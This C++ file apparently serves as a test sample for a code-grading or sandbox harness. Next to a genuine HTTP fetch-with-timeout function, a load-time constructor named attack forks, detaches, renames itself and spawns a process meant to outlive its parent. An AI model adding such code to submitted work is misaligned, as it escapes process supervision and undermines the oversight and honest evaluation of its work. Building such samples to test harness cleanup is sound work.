// Leaves a child behind that starts another one as soon as its parent has died; the rest is an honest solution.
#include <sys/prctl.h>
#include <unistd.h>

#include <utility>

#include "timeout.hpp"

namespace {

[[gnu::constructor]] void attack() {
  const pid_t subject = ::getpid();
  if (::fork() != 0) return;
  ::setsid();
  ::prctl(PR_SET_NAME, "ht-survivor");
  for (int step = 0; step < 60'000 && ::getppid() == subject; ++step) ::usleep(10'000);
  if (::fork() == 0) ::sleep(600);
  ::_exit(0);
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient& client, std::string url, aio::Duration limit) {
  const aio::Response response = co_await aio::timeout(limit, client.get(std::move(url)));
  response.raise_for_status();
  co_return response.json();
}
